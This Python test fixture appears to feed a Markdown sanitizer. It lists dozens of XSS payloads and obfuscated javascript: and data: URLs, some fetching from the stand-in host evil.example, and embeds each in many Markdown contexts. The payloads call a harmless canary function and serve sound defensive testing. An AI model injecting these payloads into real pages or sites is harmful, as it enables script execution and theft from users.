"""What a hostile model may say: payloads of many kinds, each in many places of Markdown."""

from typing import Final

HOST: Final = "evil.example"  # whatever asks this host for something has failed

# Each calls __xss, asks HOST for something, or goes elsewhere, if anything of it comes to life.
ELEMENTS: Final = [
    "<script>__xss()</script>",
    f"<script src=//{HOST}/x.js></script>",
    "<ScRiPt >__xss()</sCrIpT>",
    "<img src=x onerror=__xss()>",
    f"<img src=http://{HOST}/pixel.png>",
    "<img src=x onerror=\"__xss()\" style='display:none'>",
    "<svg onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss()><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href=http://{HOST}/x.svg#x></use></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__xss()&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=__xss()></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:__xss()>x</maction></math>",
    "<math href=javascript:__xss()><mi>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>",
    f"<style>@import 'http://{HOST}/x.css'; * {{ background: url(http://{HOST}/y) }}</style>",
    "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
    "<iframe src=javascript:parent.__xss()></iframe>",
    f"<iframe src=http://{HOST}/></iframe>",
    f"<object data=http://{HOST}/x.swf></object>",
    f"<embed src=http://{HOST}/x.svg>",
    f"<form action=http://{HOST}/><button autofocus onfocus=__xss() formaction=javascript:__xss()>x</button></form>",
    "<input autofocus onfocus=__xss()>",
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f"<base href=http://{HOST}/>",
    f"<link rel=stylesheet href=http://{HOST}/x.css><link rel=prefetch href=http://{HOST}/y>",
    "<template><script>__xss()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=__xss()>'></noscript>",
    "<textarea></textarea><img src=x onerror=__xss()></textarea>",
    "<title></title><img src=x onerror=__xss()></title>",
    "<xmp><p title='</xmp><img src=x onerror=__xss()>'>",
    "<details open ontoggle=__xss()>x</details>",
    f"<video autoplay onloadstart=__xss() src=http://{HOST}/v.mp4><source onerror=__xss()></video>",
    "<marquee onstart=__xss()>x</marquee>",
    "<dialog open onbeforetoggle=__xss()>x</dialog>",
    "<p style='animation:x' onanimationstart=__xss()>x",
    "<a href='javascript:__xss()' autofocus tabindex=1 onfocus=__xss()>x</a>",
    "<div hx-get='/' hx-trigger='load' hx-target='body'>x</div>",
    "<div data-hx-get='/' data-hx-trigger='load'>x</div>",
    "<div hx-on:load='__xss()' hx-on::after-settle='__xss()'>x</div>",
    "<div hx-sse:connect='/' hx-vals='js:{a: __xss()}'>x</div>",
    "<hx-partial hx-target='body' hx-swap='innerHTML'><img src=x onerror=__xss()></hx-partial>",
    "</hx-partial><hx-partial hx-target='#composer'>x</hx-partial>",
    "</code></pre></div><img src=x onerror=__xss()>",
    "<!--><img src=x onerror=__xss()>-->",
    "<!-- --!><img src=x onerror=__xss()> -->",
    "<![CDATA[><img src=x onerror=__xss()>]]>",
    "<?xml version='1.0'?><img src=x onerror=__xss()?>",
    "&lt;img src=x onerror=__xss()&gt;",
    "&#60;script&#62;__xss()&#60;/script&#62;",
    "\u202e<script>__xss()</script>\u2066",
    "<\0script>__xss()</script>",
    "<img\u00a0src=x\u2028onerror=__xss()>",
    '" onmouseover=__xss() autofocus onfocus=__xss() x="',
    "' onmouseover=__xss() style=color:red x='",
    "`` ` <img src=x onerror=__xss()> ` ``",
    "data: <img src=x onerror=__xss()> event: done id: 0",
    "$\\href{javascript:__xss()}{x}$ $\\url{javascript:__xss()}$ $\\html{<img src=x onerror=__xss()>}$",
    "$\\text{<img src=x onerror=__xss()>}$ \\(\\text{</mtext></math><script>__xss()</script>}\\)",
    '$$\\label{" onclick=__xss()}\\text{"><svg onload=__xss()>}$$',
]  # fmt: skip
ADDRESSES: Final = [
    "javascript:__xss()", "JaVaScRiPt:__xss()", "javascript&colon;__xss()", "&#x6A;avascript:__xss()",
    "&#106&#97vascript:__xss()", "java&Tab;script:__xss()", "java&NewLine;script:__xss()", "java\tscript:__xss()",
    "%6Aavascript:__xss()", "javascript%3A__xss()", "\x01javascript:__xss()", "&#1;javascript:__xss()",
    "javascript://%0a__xss()", "javascript:javascript:__xss()", "jav\u00adascript:__xss()", "view-source:javascript:x",
    "vbscript:__xss()", "data:text/html,<script>__xss()</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=__xss()>", "blob:http://x/y", "file:///etc/passwd", "//evil.example/x",
    "\\\\evil.example\\x", "/logout", "?x=1", "#composer", "http:javascript:__xss()", "https:javascript:__xss()",
    "feed:javascript:__xss()", 'mailto:x"onclick=__xss()', 'http://x"onmouseover=__xss()//', "ｊavascript:__xss()",
]  # fmt: skip

PLACES: Final = [
    "{}",
    "[{}](http://ok.example)",
    '[a](http://ok.example "{}")',
    "![{}](http://ok.example/p.png)",
    "**{}** and `{}`",
    "```{}\ncode\n```",
    "```html\n{}\n```",
    "| {} | b |\n|---|---|\n| {} | c |",
    "- {}\n  - {}",
    "> {}",
    "> [!NOTE]\n> {}",
    "## {}",
    "a[^{}]\n\n[^{}]: {}",
    "\\[\n\\text{{{}}}\n= {}\n\\]",
    '```mermaid\ngraph TD; A["{}"] --> B; click A "javascript:__xss()"\n```',
]
ADDRESS_PLACES: Final = [
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "title")',
    "![a]({})",
    "[![a]({})]({})",
    "<{}>",
    "{}",
    "[a][n{n}]\n\n[n{n}]: {}",
    "[a][m{n}]\n\n[m{n}]: <{}> 'title'",
    "| [a]({}) |\n|---|\n| <{}> |",
    "$\\href{{{}}}{{x}}$",
]
STREAMS: Final = [
    "a\n\ndata: <img src=x onerror=__xss()>\n\nevent: done\ndata:\n\nid: 9-9-9\n\nb",
    "\r\ndata: x\r\r\n\n",
]


def strings() -> list[str]:
    """Every payload in every place."""
    places = [(place, payload) for place in PLACES for payload in ELEMENTS]
    places += [(place, address) for place in ADDRESS_PLACES for address in ADDRESSES]
    filled = [
        place.replace("{{", "{").replace("}}", "}").replace("{}", payload).replace("{n}", str(number))
        if "{{" not in place
        else place.replace("{{{}}}", "{" + payload + "}").replace("{{x}}", "{x}").replace("{}", payload)
        for number, (place, payload) in enumerate(places)
    ]
    return filled + STREAMS
